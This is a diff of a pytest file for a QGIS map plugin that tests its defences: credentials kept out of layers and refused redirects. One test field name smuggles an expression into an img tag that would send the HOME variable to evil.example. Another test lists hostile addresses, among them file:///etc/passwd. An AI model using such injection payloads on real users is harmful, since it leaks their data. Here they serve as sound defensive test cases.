@@ -2,16 +2,34 @@
 
 from __future__ import annotations
 
+import os
 from collections.abc import Iterator
 from dataclasses import replace
 from pathlib import Path
 
 import pytest
-from qgis.core import QgsAuthManager, QgsAuthMethodConfig, QgsDataSourceUri, QgsFeature, QgsProject, QgsVectorLayer
+from qgis.core import (
+    QgsAuthManager,
+    QgsAuthMethodConfig,
+    QgsDataSourceUri,
+    QgsFeature,
+    QgsField,
+    QgsProject,
+    QgsVectorLayer,
+)
+from qgis.PyQt.QtCore import QMetaType
 
 from demo.service import PASSWORD, Service
 from plugin.adapters.connecting import check_addresses, connect
-from plugin.adapters.map_layers import copy_layer, layers_of_copy, read_again, unsaved, wfs_layer, wms_layer
+from plugin.adapters.map_layers import (
+    _first_text,
+    copy_layer,
+    layers_of_copy,
+    read_again,
+    unsaved,
+    wfs_layer,
+    wms_layer,
+)
 from plugin.adapters.working_copy import WorkingCopy
 from plugin.domain.errors import NotAService, RedirectRefused, WorkingCopyProblem
 from plugin.services.wfs.model import Field, LayerInfo
@@ -95,7 +113,9 @@ def test_a_hostile_layer_is_found_by_what_it_reads(tmp_path: Path, name: str) ->
     assert layer.featureCount() == 1 and "\n" not in layer.name() and "\u202e" not in layer.name()
     assert layers_of_copy(copy.path) == {name: [layer]}
     layer.setCustomProperty("buergergis/typename", "")
-    assert layers_of_copy(copy.path) == {name: [layer]}, "the file itself says which layer it is"
+    table = copy.records()[0].table
+    copy.path.unlink()
+    assert layers_of_copy(copy.path) == {table: [layer]}, "the table is enough to find it; nobody opens the file"
 
 
 def test_layers_are_not_found_by_their_names(shown_layer: tuple[WorkingCopy, QgsVectorLayer], tmp_path: Path) -> None:
@@ -108,6 +128,24 @@ def test_layers_are_not_found_by_their_names(shown_layer: tuple[WorkingCopy, Qgs
     QgsProject.instance().addMapLayers([same_name, memory])
     layer.setName("ganz anders")
     assert layers_of_copy(copy.path) == {"baum": [layer]}
+
+
+def test_the_disk_is_asked_once_for_a_path(
+    shown_layer: tuple[WorkingCopy, QgsVectorLayer], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    copy, layer = shown_layer
+    link = tmp_path / "Verknüpfung.gpkg"
+    link.symlink_to(copy.path)
+    neighbours = tmp_path / "anderswo"
+    neighbours.mkdir()
+    elsewhere = village(neighbours)
+    QgsProject.instance().addMapLayer(copy_layer(elsewhere.path, elsewhere.records()[0], own=True))
+    asked: list[str] = []
+    really = os.path.realpath
+    monkeypatch.setattr(os.path, "realpath", lambda path: asked.append(str(path)) or really(path))
+    for _ in range(3):
+        assert layers_of_copy(copy.path) == {"baum": [layer]} == layers_of_copy(link)
+    assert sorted(asked) == sorted({str(copy.path), str(elsewhere.path), str(link)})
 
 
 @pytest.mark.parametrize("folder", ["Eigene Dateien & Bäume", "a'b\"c", "a#b?c&d", "layername=x"])
@@ -165,7 +203,7 @@ def test_layers_see_what_a_refresh_brought(shown_layer: tuple[WorkingCopy, QgsVe
 
 def test_features_of_the_service_can_be_looked_at_and_not_edited(service: Service) -> None:
     info = connect(service.url).capabilities.layers["sitzbank"]
-    layer = wfs_layer(service.url, "", info)
+    layer = wfs_layer(service.url, info)
     assert layer.name() == info.title and layer.crs().authid() == info.crs
     assert layer.featureCount() > 0
     assert layer.readOnly() and not layer.startEditing()
@@ -175,26 +213,35 @@ def test_features_of_the_service_can_be_looked_at_and_not_edited(service: Servic
 
 
 def test_a_map_of_the_service_is_drawn_and_answers_in_text(service: Service) -> None:
-    layer = wms_layer(service.url, "", "sitzbank", "<b>Bänke</b>", "EPSG:25833")
+    layer = wms_layer(service.url, "sitzbank", "<b>Bänke</b>", "EPSG:25833")
     assert layer.name() == "<b>Bänke</b>" and layer.crs().authid() == "EPSG:25833"
     assert layer.customProperty("identify/format") == "Text"
 
 
-def test_credentials_are_an_id_of_qgis_in_the_layers(service: Service, auth_manager: QgsAuthManager) -> None:
+def test_a_login_is_in_no_layer(service: Service, auth_manager: QgsAuthManager) -> None:
+    """QGIS would take it along wherever the service sends it: to other hosts, and through redirects."""
     config = QgsAuthMethodConfig("Basic")
     config.setName("beitrag-a")
     config.setConfigMap({"username": "beitrag-a", "password": PASSWORD})
     assert auth_manager.storeAuthenticationConfig(config, True)[0]
-    authcfg = config.id()
-    info = connect(service.url, authcfg).capabilities.layers["sitzbank"]
-    for layer in (wfs_layer(service.url, authcfg, info), wms_layer(service.url, authcfg, "sitzbank", "x", info.crs)):
-        assert authcfg in layer.source() and PASSWORD not in layer.source()
+    info = connect(service.url, config.id()).capabilities.layers["sitzbank"]
+    for layer in (wfs_layer(service.url, info), wms_layer(service.url, "sitzbank", "x", info.crs)):
+        assert "authcfg" not in layer.source() and config.id() not in layer.source()
+
+
+def test_a_field_whose_name_ends_an_expression_is_in_no_tip() -> None:
+    name = "a%]<img src='http://evil.example/?[% env('HOME') %]'>[% 'x"
+    layer = QgsVectorLayer("Point?crs=EPSG:25833", "böse", "memory")
+    layer.dataProvider().addAttributes([QgsField(name, QMetaType.Type.QString)])
+    layer.updateFields()
+    assert layer.fields().names() == [name]
+    assert "evil" not in _first_text(layer)
 
 
 @pytest.mark.parametrize("name", HOSTILE)
 def test_a_hostile_name_stays_a_name(service: Service, name: str) -> None:
     info = LayerInfo(name, name, "", "EPSG:25833", None, frozenset({"query"}))
-    for make in (lambda: wfs_layer(service.url, "", info), lambda: wms_layer(service.url, "", name, name, info.crs)):
+    for make in (lambda: wfs_layer(service.url, info), lambda: wms_layer(service.url, name, name, info.crs)):
         with pytest.raises(NotAService):
             make()
 
@@ -202,7 +249,7 @@ def test_a_hostile_name_stays_a_name(service: Service, name: str) -> None:
 def test_a_service_that_is_gone_is_said() -> None:
     info = LayerInfo("baum", "Bäume", "", "EPSG:25833", None, frozenset({"query"}))
     with pytest.raises(NotAService, match="Bäume"):
-        wfs_layer("http://127.0.0.1:9/ows/", "", info)
+        wfs_layer("http://127.0.0.1:9/ows/", info)
 
 
 def test_a_typename_with_quotes_reaches_the_service_as_it_is() -> None:
@@ -216,8 +263,14 @@ def test_a_typename_with_quotes_reaches_the_service_as_it_is() -> None:
 def test_a_login_goes_nowhere_else_whatever_the_description_says(service: Service) -> None:
     connection = connect(service.url)
     check_addresses(connection)
-    for address in ("http://evil.example/ows/", "https://127.0.0.1/ows/", "http://127.0.0.1:abc/", "//evil.example/"):
+    for address in (
+        "http://evil.example/",
+        "https://127.0.0.1/",
+        "http://127.0.0.1:abc/",
+        "//evil.example/",
+        "file:///etc/passwd",
+    ):
         named = replace(connection.capabilities, addresses=frozenset({service.url, address}))
-        with pytest.raises(RedirectRefused, match="your login would go there"):
+        with pytest.raises(RedirectRefused, match="tells QGIS to ask at"):
             check_addresses(replace(connection, capabilities=named))
     check_addresses(replace(connection, capabilities=replace(connection.capabilities, addresses=frozenset({"?"}))))
